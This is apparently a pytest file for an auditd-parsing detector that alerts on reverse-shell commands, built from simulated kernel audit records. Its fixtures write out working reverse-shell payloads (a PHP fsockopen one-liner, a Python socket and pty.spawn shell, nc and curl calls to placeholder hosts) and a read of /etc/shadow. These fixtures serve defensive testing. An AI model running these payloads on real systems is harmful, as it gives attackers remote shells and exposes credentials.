"""auditd done properly: records assembled into one event, arguments decoded exactly, users and parents
resolved, one alert per command, and lines that wait for their event leaving in order.

The records are written the way the kernel and auditd write them (see format_samples.audit_exec):
quoted strings, hex for anything with a space, quote, control byte or non-ASCII byte, `aN_len` +
`aN[k]` for long arguments, `node=` prefixes, the ENRICHED format's \\x1d-separated names.
"""

from __future__ import annotations

from typing import Any

import msgspec
import pytest

from conftest import PHP_FSOCKOPEN, PYTHON_PTY, SHELL_VIA_WEB_SERVER, WEB_SERVER_CHILD, seed_rule_ids
from format_samples import Exec, audit_exec
from shellsieve.compile.ruleset import Ruleset
from shellsieve.events.auditd import AuditAssembler, parse_record, to_ecs
from shellsieve.events.pids import PidTable
from shellsieve.run.match import BlockMatcher
from shellsieve.run.route import Router
from shellsieve.run.stats import Stats
from test_formats import APACHE, BASH, run_lines

# A real record pair from a Debian host (hex argument with quotes and spaces, as the kernel writes it):
# php -r '$sock=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");'
PHP_CODE = '$sock=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");'
REAL = [
    'type=SYSCALL msg=audit(1700000000.123:4567): arch=c000003e syscall=59 success=yes exit=0 a0=5581f2f2c0e0 '
    'a1=5581f2f2c160 a2=5581f2f0e2a0 a3=8 items=2 ppid=1200 pid=1234 auid=1000 uid=1000 gid=1000 euid=1000 '
    'suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=2 comm="php" exe="/usr/bin/php8.2" '
    'subj=unconfined key="exec"',
    "type=EXECVE msg=audit(1700000000.123:4567): argc=3 a0=\"php\" a1=\"-r\" a2=" + PHP_CODE.encode().hex().upper(),
    'type=CWD msg=audit(1700000000.123:4567): cwd="/home/alice"',
    'type=PATH msg=audit(1700000000.123:4567): item=0 name="/usr/bin/php" inode=3937 dev=fd:01 mode=0100755 '
    'ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0',
    "type=PROCTITLE msg=audit(1700000000.123:4567): proctitle=706870002D72",
    "type=EOE msg=audit(1700000000.123:4567): ",
]


def ecs_of(lines: list[str], pids: PidTable | None = None, passwd: dict[str, str] | None = None) -> dict[str, Any]:
    recs = [r for line in lines if (r := parse_record(line)) is not None]
    return to_ecs(recs, pids if pids is not None else PidTable(), passwd or {})


class TestDecoding:
    def test_hex_argument_with_quotes_and_spaces(self) -> None:
        ecs = ecs_of(REAL)
        assert ecs["process.args"] == ["php", "-r", PHP_CODE]
        assert ecs["process.args_count"] == 3
        assert ecs["process.command_line"] == "php -r '" + PHP_CODE + "'"
        assert ecs["process.name"] == "php" and ecs["process.executable"] == "/usr/bin/php8.2"
        assert ecs["process.working_directory"] == "/home/alice"
        assert ecs["process.pid"] == 1234 and ecs["process.parent.pid"] == 1200
        assert ecs["user.id"] == "1000" and ecs["user.audit.id"] == "1000"
        assert ecs["event.category"] == ["process"] and ecs["event.type"] == ["start"]
        assert ecs["event.action"] == "exec" and ecs["auditd.data.syscall"] == "execve"
        assert ecs["@timestamp"] == "2023-11-14T22:13:20.123Z"
        assert ecs["tags"] == ["exec"]
        assert ecs["auditd.message_type"] == ["SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE", "EOE"]

    def test_long_argument_split_into_pieces(self) -> None:
        """An argument past the record size arrives as aN_len and aN[0], aN[1]...; pieces join exactly,
        even where a multi-byte character is cut between two pieces."""
        payload = "echo " + "é" * 40 + " 'x'"
        ex = Exec(("bash", "-c", payload), "/usr/bin/bash")
        lines = audit_exec(ex, split_over=16)
        assert any("a2[0]=" in x and "a2_len=" in x for x in lines)
        assert ecs_of(lines)["process.args"] == ["bash", "-c", payload]

    def test_argv_continued_in_a_second_execve_record(self) -> None:
        lines = [
            'type=SYSCALL msg=audit(1700000000.500:77): arch=c000003e syscall=59 success=yes exit=0 ppid=1 '
            'pid=2 uid=0 auid=0 comm="echo" exe="/usr/bin/echo"',
            'type=EXECVE msg=audit(1700000000.500:77): argc=4 a0="echo" a1="one"',
            'type=EXECVE msg=audit(1700000000.500:77): a2="two" a3=7468726565206671',
            "type=EOE msg=audit(1700000000.500:77): ",
        ]
        assert ecs_of(lines)["process.args"] == ["echo", "one", "two", "three fq"]

    def test_hex_comm_exe_and_cwd(self) -> None:
        lines = ['type=SYSCALL msg=audit(1700000000.500:78): arch=c000003e syscall=59 success=yes ppid=1 pid=3 '
                 'uid=0 comm=6D7920736372697074 exe=2F746D702F6D7920736372697074',
                 "type=CWD msg=audit(1700000000.500:78): cwd=2F746D702F612062"]
        ecs = ecs_of(lines)
        assert ecs["process.name"] == "my script" and ecs["process.executable"] == "/tmp/my script"
        assert ecs["process.working_directory"] == "/tmp/a b"

    def test_proctitle_when_there_is_no_execve(self) -> None:
        lines = ['type=SYSCALL msg=audit(1700000000.5:79): arch=c000003e syscall=2 success=yes ppid=1 pid=4 uid=0 '
                 'comm="cat" exe="/usr/bin/cat"',
                 "type=PROCTITLE msg=audit(1700000000.5:79): proctitle=636174002F6574632F736861646F77"]
        ecs = ecs_of(lines)
        assert ecs["process.args"] == ["cat", "/etc/shadow"] and "event.category" not in ecs

    def test_invalid_utf8_argument_stays_visible(self) -> None:
        lines = ['type=SYSCALL msg=audit(1700000000.5:80): arch=c000003e syscall=59 success=yes ppid=1 pid=5 '
                 'uid=0 comm="printf" exe="/usr/bin/printf"',
                 'type=EXECVE msg=audit(1700000000.5:80): argc=2 a0="printf" a1=41FF42']
        assert ecs_of(lines)["process.args"] == ["printf", "A\\xffB"]

    def test_user_names_from_passwd_and_from_enriched_records(self) -> None:
        passwd = {"33": "www-data", "1000": "alice"}
        assert ecs_of(REAL, passwd=passwd)["user.name"] == "alice"
        enriched = REAL[0] + '\x1dARCH=x86_64 SYSCALL=execve AUID="alice" UID="alice2" GID="alice" EUID="alice2"'
        ecs = ecs_of([enriched] + REAL[1:], passwd=passwd)
        assert ecs["user.name"] == "alice2" and ecs["user.effective.name"] == "alice2"
        assert ecs["user.audit.name"] == "alice"

    def test_unset_auid_is_left_out(self) -> None:
        line = REAL[0].replace("auid=1000", "auid=4294967295")
        assert "user.audit.id" not in ecs_of([line] + REAL[1:])

    def test_parent_from_the_pid_table(self) -> None:
        pids = PidTable()
        ecs_of(audit_exec(APACHE), pids)
        child = Exec(("sh", "-c", "id"), "/usr/bin/dash", uid=33, parent=APACHE, serial=1001)
        ecs = ecs_of(audit_exec(child), pids)
        assert ecs["process.parent.name"] == "apache2"
        assert ecs["process.parent.executable"] == "/usr/sbin/apache2"
        assert ecs["process.parent.args"] == ["/usr/sbin/apache2", "-k", "start"]
        assert ecs["process.parent.entity_id"] == ecs_of(audit_exec(APACHE), PidTable())["process.entity_id"]

    def test_pid_table_is_bounded(self) -> None:
        pids = PidTable(capacity=2)
        for pid in (10, 11, 12):
            ecs_of(audit_exec(Exec(("true",), "/usr/bin/true", pid=pid, serial=pid)), pids)
        assert len(pids) == 2 and pids.evicted == 1
        assert pids.get("web-01", 10) is None and pids.get("web-01", 12) is not None

    def test_connect_becomes_a_network_event_of_the_same_process(self) -> None:
        pids = PidTable()
        ex = Exec(("nc", "10.1.2.3", "4444"), "/usr/bin/nc.openbsd", connect=("10.1.2.3", 4444))
        start = ecs_of(audit_exec(ex), pids)
        from format_samples import audit_connect

        net = ecs_of(audit_connect(ex), pids)
        assert net["event.category"] == ["network"] and net["event.action"] == "connection_attempted"
        assert net["destination.ip"] == "10.1.2.3" and net["destination.port"] == 4444
        assert net["process.entity_id"] == start["process.entity_id"]


class TestAssembly:
    def test_records_wait_for_eoe(self) -> None:
        asm = AuditAssembler(timeout_s=10)
        recs = [parse_record(x) for x in REAL]
        done = [asm.add(r, i, 0.0) for i, r in enumerate(recs) if r is not None]
        assert done[:-1] == [[]] * (len(REAL) - 1)
        (ev,) = done[-1]
        assert ev.complete and ev.slots == list(range(len(REAL)))

    def test_standalone_record_is_its_own_event(self) -> None:
        asm = AuditAssembler()
        rec = parse_record("type=USER_CMD msg=audit(1700000000.1:90): pid=7 uid=1000 auid=1000 ses=2 "
                           "msg='cwd=\"/home/a\" cmd=6C73 exe=\"/usr/bin/sudo\" terminal=pts/0 res=success'")
        assert rec is not None and [len(e.records) for e in asm.add(rec, 0, 0.0)] == [1]

    def test_timeout_and_capacity_bound_the_wait(self) -> None:
        asm = AuditAssembler(timeout_s=0.5, max_open=2)
        for serial in (1, 2, 3):
            done = asm.add(parse_record(f'type=SYSCALL msg=audit(1.0:{serial}): syscall=59 pid=1'), serial, 0.0)
        assert [e.key[2] for e in done] == [1] and asm.evicted == 1  # the oldest leaves to make room
        assert asm.expired(0.4) == [] and [e.key[2] for e in asm.expired(0.5)] == [2, 3]
        assert asm.timed_out == 2 and asm.waiting == 0


def _router(ruleset: Ruleset, **kw: Any) -> Router:
    stats = Stats()
    return Router(BlockMatcher(ruleset, stats), stats, "auto", **kw)


def _lines(out: bytes) -> list[dict[str, Any]]:
    return [msgspec.json.decode(x) for x in out.splitlines()]


def _block(lines: list[str]) -> bytes:
    return "".join(x + "\n" for x in lines).encode()


class TestStream:
    def test_one_alert_per_command_on_the_execve_line(self, shipped: Ruleset) -> None:
        docs, stats = run_lines(shipped, [x.encode() for x in REAL])
        assert [d["message"] for d in docs] == REAL  # every record leaves, in order
        alerts = [d for d in docs if seed_rule_ids(d)]
        assert len(alerts) == 1 and seed_rule_ids(alerts[0]) == [PHP_FSOCKOPEN]
        alert = alerts[0]
        assert alert["message"] == REAL[1]  # the EXECVE record carries the alert
        assert alert["process"]["args"] == ["php", "-r", PHP_CODE]  # with the parsed ECS fields
        assert alert["process"]["pid"] == 1234 and alert["user"]["id"] == "1000"
        assert all(set(d) == {"message"} for d in docs if d is not alert)
        assert stats.audit_events == 1 and stats.formats["auditd"] == len(REAL)

    def test_event_split_across_two_batches(self, shipped: Ruleset) -> None:
        r = _router(shipped)
        first = r.process(_block(REAL[:2]), now=0.0)
        assert first == b""  # held: the event is not complete
        out = _lines(r.process(_block(REAL[2:]), now=0.01))
        assert [d["message"] for d in out] == REAL and seed_rule_ids(out[1]) == [PHP_FSOCKOPEN]

    def test_two_serials_interleaved(self, shipped: Ruleset) -> None:
        a = audit_exec(Exec(("php", "-r", '$s=fsockopen("10.10.10.10",9001);'), "/usr/bin/php", serial=500))
        b = audit_exec(Exec(("ls", "-l"), "/usr/bin/ls", pid=5000, serial=501))
        mixed = [x for pair in zip(a, b) for x in pair]
        docs, stats = run_lines(shipped, [x.encode() for x in mixed])
        assert [d["message"] for d in docs] == mixed  # input order, not event order
        assert stats.audit_events == 2
        alerts = [d for d in docs if seed_rule_ids(d)]
        assert len(alerts) == 1 and "a2=" in alerts[0]["message"] and ":500):" in alerts[0]["message"]

    def test_later_lines_wait_behind_an_open_event(self, shipped: Ruleset) -> None:
        r = _router(shipped)
        ecs_line = b'{"process":{"command_line":"ls"}}'
        assert r.process(_block(REAL[:3]) + ecs_line + b"\n", now=0.0) == b""
        out = r.process(_block(REAL[3:]), now=0.01).splitlines()
        assert out[3] == ecs_line and len(out) == len(REAL) + 1

    def test_missing_eoe_leaves_after_the_timeout(self, shipped: Ruleset) -> None:
        r = _router(shipped, audit_timeout_s=0.5)
        assert r.process(_block(REAL[:-1]), now=100.0) == b""
        assert r.deadline() == pytest.approx(100.5)
        assert r.tick(100.4) == b""
        out = _lines(r.tick(100.5))
        assert [d["message"] for d in out] == REAL[:-1] and seed_rule_ids(out[1]) == [PHP_FSOCKOPEN]
        assert r.audit.timed_out == 1

    def test_truncated_record_loses_nothing(self, shipped: Ruleset) -> None:
        """A record cut short (a line lost its tail) and a line cut inside its header: every line still
        leaves once, as valid JSON; the event is still decoded from what is there."""
        keep = len(b'$sock=fsockopen("10.0.0.1",4242);'.hex()) + 1
        cut = REAL[1][: REAL[1].index("a2=") + 3 + keep]  # the hex argument cut mid-way (odd length)
        header_cut = "type=SYSCALL msg=audit(1700000000.9"
        lines = [REAL[0], cut, header_cut, *REAL[2:]]
        docs, stats = run_lines(shipped, [x.encode() for x in lines])
        assert [d["message"] for d in docs] == lines
        assert stats.malformed["not_audit_record"] == 1  # forwarded as {"message": ...} and counted
        assert stats.formats["auditd"] == len(lines) and stats.audit_events == 1
        alert = next(d for d in docs if seed_rule_ids(d))
        assert alert["message"] == cut and alert["auditd"]["truncated"] is True
        assert alert["process"]["args"][2] == '$sock=fsockopen("10.0.0.1",4242);' 

    def test_only_alerts_writes_one_line_per_alert(self, shipped: Ruleset) -> None:
        docs, _ = run_lines(shipped, [x.encode() for x in REAL], only_alerts=True)
        assert len(docs) == 1 and seed_rule_ids(docs[0]) == [PHP_FSOCKOPEN]

    def test_web_server_rules_fire_through_the_pid_table(self, shipped: Ruleset) -> None:
        child = Exec(("bash", "-i"), "/usr/bin/bash", uid=33, user="www-data", parent=APACHE)
        lines = audit_exec(APACHE) + audit_exec(child)
        docs, _ = run_lines(shipped, [x.encode() for x in lines], passwd=None)
        alert = next(d for d in docs if seed_rule_ids(d))
        assert seed_rule_ids(alert) == [SHELL_VIA_WEB_SERVER]
        assert alert["process"]["parent"]["name"] == "apache2"
        # a table too small to remember the parent: the parent-based rule cannot fire
        docs, _ = run_lines(shipped, [x.encode() for x in lines], pid_table_size=0)
        assert not any(seed_rule_ids(d) for d in docs)

    def test_multiline_python_payload(self, shipped: Ruleset) -> None:
        """Seed 001's tested payload spans lines; auditd hex-encodes the newlines, so it is one event."""
        payload = ('import socket,os,pty;\ns=socket.socket();\ns.connect((os.getenv("RHOST"),int(os.getenv("RPORT"))));'
                   '\n[os.dup2(s.fileno(),fd) for fd in (0,1,2)];\npty.spawn("sh")')
        lines = audit_exec(Exec(("python", "-c", payload), "/usr/bin/python3.11", parent=BASH))
        docs, _ = run_lines(shipped, [x.encode() for x in lines])
        assert [seed_rule_ids(d) for d in docs if seed_rule_ids(d)] == [[PYTHON_PTY]]

    def test_passwd_file_names_the_user(self, shipped: Ruleset, tmp_path: Any) -> None:
        passwd = tmp_path / "passwd"
        passwd.write_text("root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n")
        ex = Exec(("curl", "http://x/a.sh"), "/usr/bin/curl", uid=33, parent=APACHE)
        lines = [x.encode() for x in audit_exec(APACHE) + audit_exec(ex)]
        docs, _ = run_lines(shipped, lines, passwd=str(passwd))
        alert = next(d for d in docs if seed_rule_ids(d))
        assert seed_rule_ids(alert) == [WEB_SERVER_CHILD]
        assert alert["user"] == {"id": "33", "name": "www-data", "effective": {"id": "33", "name": "www-data"},
                                 "audit": {"id": "1000"}}


def test_records_without_node_belong_to_this_host(shipped: Ruleset) -> None:
    """auditd's default name_format writes no node=: the sequence rule (joined by host.id) still joins,
    on the name of the host the filter runs on."""
    import socket

    from conftest import REVERSE_SHELL_SEQUENCE
    from format_samples import audit_connect

    ex = Exec(("python3", "-c", "__import__('pty').spawn('/bin/sh')"), "/usr/bin/python3", parent=BASH,
              connect=("10.10.10.10", 9001))
    lines = audit_exec(BASH, node=False) + audit_exec(ex, node=False) + audit_connect(ex, node=False)
    docs, _ = run_lines(shipped, [x.encode() for x in lines])
    alerts = [d for d in docs if seed_rule_ids(d)]
    assert [seed_rule_ids(d) for d in alerts] == [[REVERSE_SHELL_SEQUENCE]]
    assert alerts[0]["host"]["id"] == socket.gethostname()


class TestHostsInOneStream:
    """Records of several hosts in one stream without node=: each host's syslog name keeps its
    processes apart, so a parent on one host is never taken for the parent of a child on another."""

    @staticmethod
    def _via_syslog(host: str, recs: list[str]) -> list[bytes]:
        return [f"Dec  4 04:00:00 {host} audisp-syslog: {r}".encode() for r in recs]

    # not a web server's user: only its parent can make it a web-server child
    CHILD = Exec(("curl", "http://x/a.sh"), "/usr/bin/curl", pid=4242, ppid=4000, uid=1000, user="deploy",
                 time=1777800000.1, serial=1001)

    def test_parent_on_another_host_is_not_the_parent(self, shipped: Ruleset) -> None:
        """apache2 is pid 4000 on web-a; pid 4000's child on web-b is not a web-server child."""
        lines = self._via_syslog("web-a", audit_exec(APACHE, node=False))
        lines += self._via_syslog("web-b", audit_exec(self.CHILD, node=False))
        docs, _ = run_lines(shipped, lines)
        assert [seed_rule_ids(d) for d in docs if seed_rule_ids(d)] == []

    def test_parent_on_the_same_host_is_found(self, shipped: Ruleset) -> None:
        """The same records from one syslog host: the child is apache2's, and the alert names the host."""
        lines = self._via_syslog("web-b", audit_exec(APACHE, node=False) + audit_exec(self.CHILD, node=False))
        docs, _ = run_lines(shipped, lines)
        alerts = [d for d in docs if seed_rule_ids(d)]
        assert [seed_rule_ids(d) for d in alerts] == [[WEB_SERVER_CHILD]]
        assert alerts[0]["host"]["id"] == "web-b" and alerts[0]["process"]["parent"]["name"] == "apache2"

    @pytest.mark.parametrize("prefix", ["<14>Dec 14 04:00:00 {h} audispd[7]: ",
                                        "2026-12-04T04:00:00.123456+00:00 {h} audisp-syslog: ",
                                        "<165>1 2026-12-04T04:00:00Z {h} audispd 123 - - ",
                                        "Dec  4 04:00:00 {h} "])
    def test_syslog_headers_name_the_host(self, prefix: str) -> None:
        """BSD, ISO-timestamped and RFC 5424 syslog headers give the record's host; node= wins over them."""
        rec = "type=EOE msg=audit(1777800000.100:1001):"
        assert parse_record(prefix.format(h="db-1.example.org") + rec).node == "db-1.example.org"
        assert parse_record(prefix.format(h="db-1") + "node=n7 " + rec).node == "n7"

    def test_same_serial_on_two_hosts_stays_two_events(self) -> None:
        """Two hosts' records with the same time and serial are assembled as two events, with distinct entity ids."""
        asm = AuditAssembler()
        table = PidTable()
        events = []
        for host in ("web-a", "web-b"):
            for line in self._via_syslog(host, audit_exec(self.CHILD, node=False)):
                rec = parse_record(line.decode())
                assert rec is not None
                events += asm.add(rec, None, 0.0)
        assert len(events) == 2
        flats = [to_ecs(ev.records, table, {}, "local") for ev in events]
        assert [f["host.id"] for f in flats] == ["web-a", "web-b"]
        assert flats[0]["process.entity_id"] != flats[1]["process.entity_id"]
